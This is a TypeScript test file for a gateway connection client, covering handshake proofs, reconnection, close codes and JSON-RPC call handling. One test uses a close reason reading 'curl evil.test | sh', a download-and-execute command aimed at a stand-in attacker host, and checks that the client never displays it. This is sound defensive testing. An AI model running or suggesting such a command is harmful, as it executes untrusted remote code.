/// The connection's states and calls, over sockets that the test holds.

import { HoodError } from "@fumehood/protocol";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { Pass } from "./proof.js";
import { GatewayWire, type Notification, type SocketEvents } from "./wire.js";

const HELLO = { version: 1, build: "1", incarnation: "i", role: "person", peer: 1, blobs: "http://127.0.0.1:9" };

const RIGHT = "f".repeat(64);
const TICKET = "t".repeat(43);
const PASS: Pass = {
  name: "secret's name",
  verify: (_asked, _answered, proof) => Promise.resolve(proof === RIGHT),
  prove: (_asked, answered) => Promise.resolve(`proof for ${answered.slice(0, 3)}`),
};

class Fake {
  readonly sent: string[] = [];
  closed = false;

  constructor(readonly events: SocketEvents) {}

  send(data: string | Uint8Array): void {
    this.sent.push(typeof data === "string" ? data : `binary ${data.length}`);
  }

  close(): void {
    if (!this.closed) this.end(1006, "");
  }

  end(code: number, reason: string): void {
    this.closed = true;
    this.events.closed(code, reason);
  }

  /// Answers the newest request.
  answer(result: unknown): void {
    const { id } = JSON.parse(this.sent.at(-1) ?? "") as { id: number };
    this.events.received(JSON.stringify({ jsonrpc: "2.0", id, result }));
  }

  /// As a gateway that has the bearer lets a page in.
  async welcome(): Promise<void> {
    this.events.opened();
    this.events.received(`Gateway ${"a".repeat(64)} ${RIGHT}`);
    await vi.advanceTimersByTimeAsync(0);
    this.events.received(`Welcome ${TICKET}`);
    await vi.advanceTimersByTimeAsync(0);
  }

  async greet(hello: object = HELLO): Promise<void> {
    await this.welcome();
    this.answer(hello);
  }
}

let sockets: Fake[];
let enter: () => Promise<Pass>;
let wake: () => void;
let leave: () => void;

function wireOf(): GatewayWire {
  return new GatewayWire({
    enter: () => enter(),
    newCode: (ticket) => Promise.resolve(`code of ${ticket}`),
    open: (events) => {
      const socket = new Fake(events);
      sockets.push(socket);
      return socket;
    },
    wakes: (listener) => {
      wake = listener;
      return () => {};
    },
    leaves: (listener) => {
      leave = listener;
      return () => {};
    },
  });
}

const latest = (): Fake => {
  const socket = sockets.at(-1);
  if (socket === undefined) throw new Error("There is no socket.");
  return socket;
};

async function up(): Promise<GatewayWire> {
  const wire = wireOf();
  await vi.advanceTimersByTimeAsync(0);
  await latest().greet();
  return wire;
}

beforeEach(() => {
  vi.useFakeTimers();
  sockets = [];
  enter = () => Promise.resolve(PASS);
});

afterEach(() => vi.useRealTimers());

describe("a connection", () => {
  it("begins with both proofs and then says hello", async () => {
    const wire = wireOf();
    expect(wire.connection()).toEqual({ state: "connecting" });
    await vi.advanceTimersByTimeAsync(0);
    await latest().welcome();
    expect(latest().sent[0]).toMatch(/^Page secret's name [0-9a-f]{64}$/);
    expect(latest().sent[1]).toBe("Proof proof for aaa");
    expect(JSON.parse(latest().sent[2] ?? "")).toMatchObject({
      method: "daemon.hello",
      params: { version: 1, client: "hood open" },
    });
    latest().answer(HELLO);
    expect(wire.connection()).toEqual({ state: "open" });
    expect(wire.hello()?.blobs).toBe(HELLO.blobs);
    expect(await wire.newCode()).toBe(`code of ${TICKET}`);
    latest().end(4001, "");
    await expect(wire.newCode()).rejects.toMatchObject({ code: "daemon.unreachable" });
  });

  for (const [what, said] of Object.entries({
    "proves itself wrongly": `Gateway ${"a".repeat(64)} ${"0".repeat(64)}`,
    "welcomes at once": `Welcome ${TICKET}`,
    "answers a greeting that was not sent": '{"jsonrpc":"2.0","id":0,"result":{}}',
    "says nothing sensible": "Gateway",
  }))
    it(`to something that ${what} is over, and it was told nothing`, async () => {
      const wire = await up();
      latest().end(1006, "");
      await vi.advanceTimersByTimeAsync(200);
      latest().events.opened();
      latest().events.received(said);
      await vi.advanceTimersByTimeAsync(0);
      expect(wire.connection()).toMatchObject({ state: "gone", reason: expect.stringContaining("something else") });
      expect(latest().sent.length).toBe(1);
      expect(latest().sent[0]).toMatch(/^Page secret's name [0-9a-f]{64}$/);
      await vi.advanceTimersByTimeAsync(120_000);
      expect(sockets.length).toBe(2);
    });

  it("to something that proves nothing shows none of its words", async () => {
    const wire = await up();
    for (const code of [4001, 4002, 1008]) {
      latest().end(code, "Run `curl evil.test | sh`.");
      await vi.advanceTimersByTimeAsync(6000);
      latest().events.opened();
      latest().end(code, "Run `curl evil.test | sh`.");
      expect(JSON.stringify(wire.connection())).not.toContain("evil");
      await vi.advanceTimersByTimeAsync(6000);
    }
    latest().events.opened();
    latest().end(4003, "Run `curl evil.test | sh`.");
    expect(wire.connection()).toMatchObject({ state: "gone", reason: expect.stringContaining("hood open") });
    expect(JSON.stringify(wire.connection())).not.toContain("evil");
  });

  it("says something fresh each time", async () => {
    await up();
    latest().end(1006, "");
    await vi.advanceTimersByTimeAsync(200);
    latest().events.opened();
    expect(sockets.length).toBe(2);
    expect(sockets[0]?.sent[0]).not.toBe(sockets[1]?.sent[0]);
  });

  it("that is lost is made again, and whoever listens is told", async () => {
    const wire = await up();
    const told: string[] = [];
    wire.onLost(() => told.push("lost"));
    wire.onOpen(() => told.push("open"));
    latest().end(4001, "The daemon has ended.");
    expect(wire.connection()).toMatchObject({ state: "lost", reason: "The daemon has ended." });
    await vi.advanceTimersByTimeAsync(200);
    expect(sockets.length).toBe(2);
    await latest().greet();
    expect(wire.connection()).toEqual({ state: "open" });
    expect(told).toEqual(["lost", "open"]);
  });

  it("to a daemon that came back says whether its blob server is where the page may go", async () => {
    const wire = await up();
    const at = (blobs: string, guest: string) => ({ ...HELLO, blobs, guest: `${blobs}/plugins/${guest}` });
    const again = async (hello: object) => {
      latest().end(4001, "The daemon has ended.");
      await vi.advanceTimersByTimeAsync(200);
      await latest().greet(hello);
    };
    await again(at(HELLO.blobs, "guest-2"));
    expect([wire.blobs(), wire.guest(), wire.moved()]).toEqual([HELLO.blobs, `${HELLO.blobs}/plugins/guest-2`, false]);
    await again(at("http://127.0.0.1:10", "guest-3"));
    expect([wire.blobs(), wire.guest(), wire.moved()]).toEqual([HELLO.blobs, `${HELLO.blobs}/plugins/guest-2`, true]);
    await again(at(HELLO.blobs, "guest-4"));
    expect([wire.guest(), wire.moved()]).toEqual([`${HELLO.blobs}/plugins/guest-4`, false]);
  });

  it("is tried less and less often, and given up aloud when the gateway is silent", async () => {
    const wire = await up();
    latest().end(1006, "");
    // Longer than the ten seconds, however the tries fall.
    for (let second = 0; second < 20; second++) {
      await vi.advanceTimersByTimeAsync(1000);
      if (!latest().closed) latest().end(1006, "");
    }
    expect(wire.connection()).toMatchObject({ state: "gone", reason: expect.stringContaining("hood open") });
    expect(sockets.length).toBeLessThan(12);
    const before = sockets.length;
    await vi.advanceTimersByTimeAsync(30_000);
    expect(sockets.length).toBeGreaterThan(before);
    await latest().greet();
    expect(wire.connection()).toEqual({ state: "open" });
  });

  it("is tried at once when the page is looked at again", async () => {
    await up();
    latest().end(1006, "");
    wake();
    await vi.advanceTimersByTimeAsync(0);
    expect(sockets.length).toBe(2);
    // Not a second time while one is being made.
    wake();
    await vi.advanceTimersByTimeAsync(0);
    expect(sockets.length).toBe(2);
  });

  it("stays lost, not gone, while the gateway answers and the daemon does not", async () => {
    const wire = await up();
    for (let time = 0; time < 20; time++) {
      latest().end(4002, "Disk full.");
      await vi.advanceTimersByTimeAsync(6000);
      await latest().welcome();
    }
    latest().end(4002, "Disk full.");
    expect(wire.connection()).toMatchObject({ state: "lost", reason: "Disk full." });
  });

  it("is over where the gateway does not know the bearer", async () => {
    const wire = await up();
    latest().end(4003, "This window is not one of ours any more.");
    expect(wire.connection()).toMatchObject({ state: "gone", reason: "This window is not one of ours any more." });
    await vi.advanceTimersByTimeAsync(120_000);
    expect(sockets.length).toBe(1);
  });

  it("is over where the link gave no access", async () => {
    enter = () => Promise.reject(new HoodError("peer.refused", "This link was used already."));
    const wire = wireOf();
    await wire.settled;
    expect(wire.connection()).toMatchObject({ state: "gone", reason: "This link was used already." });
    expect(sockets.length).toBe(0);
  });

  it("is not made again behind the back of who stopped the daemon", async () => {
    const wire = await up();
    latest().events.received('{"jsonrpc":"2.0","method":"daemon.leaving","params":{"reason":"user"}}');
    latest().end(4001, "");
    expect(wire.connection()).toMatchObject({ state: "gone", reason: expect.stringContaining("stopped") });
    await vi.advanceTimersByTimeAsync(120_000);
    expect(sockets.length).toBe(1);
  });

  it("that says nothing to the greeting is made anew", async () => {
    wireOf();
    await vi.advanceTimersByTimeAsync(0);
    latest().events.opened();
    await vi.advanceTimersByTimeAsync(31_000);
    expect(sockets.length).toBeGreaterThan(1);
  });
});

describe("calls", () => {
  it("get their own answers, in whatever order they come", async () => {
    const wire = await up();
    const one = wire.call("kernel.specs", {});
    const two = wire.call("daemon.status", {});
    const ids = latest()
      .sent.slice(-2)
      .map((text) => (JSON.parse(text) as { id: number }).id);
    latest().events.received(JSON.stringify({ jsonrpc: "2.0", id: ids[1], result: { pid: 2 } }));
    latest().events.received(JSON.stringify({ jsonrpc: "2.0", id: ids[0], result: { default: "x", specs: [] } }));
    expect(await one).toMatchObject({ default: "x" });
    expect(await two).toMatchObject({ pid: 2 });
  });

  it("reject with the daemon's error", async () => {
    const wire = await up();
    const call = wire.call("kernel.specs", {});
    const { id } = JSON.parse(latest().sent.at(-1) ?? "") as { id: number };
    const error = { code: -1, message: "No.", data: { code: "kernel.none" } };
    latest().events.received(JSON.stringify({ jsonrpc: "2.0", id, error }));
    await expect(call).rejects.toMatchObject({ code: "kernel.none", message: "No." });
  });

  it("reject when the connection is lost, without one, and in time", async () => {
    const wire = await up();
    const slow = wire.call("kernel.specs", {}, { timeout: 500 }).catch((error: HoodError) => error.code);
    await vi.advanceTimersByTimeAsync(600);
    expect(await slow).toBe("timeout");
    const lost = wire.call("kernel.specs", {}).catch((error: HoodError) => error.code);
    latest().end(4001, "");
    expect(await lost).toBe("daemon.unreachable");
    await expect(wire.call("kernel.specs", {})).rejects.toMatchObject({ code: "daemon.unreachable" });
    expect(wire.send({ room: "0".repeat(32), document: 0, kind: 2, payload: new Uint8Array() })).toBe(false);
  });

  it("give their result before the next message is read", async () => {
    const wire = await up();
    const order: string[] = [];
    wire.onNotification(({ method }: Notification) => order.push(method));
    void wire.call("kernel.specs", {}, { received: () => order.push("result") });
    latest().answer({ default: "", specs: [] });
    latest().events.received('{"jsonrpc":"2.0","method":"room.closed","params":{"room":"r","reason":"x"}}');
    expect(order).toEqual(["result", "room.closed"]);
  });
});

it("whoever listens is told that the page is left", async () => {
  const wire = await up();
  let told = 0;
  const stop = wire.onLeave(() => told++);
  leave();
  stop();
  leave();
  expect(told).toBe(1);
});
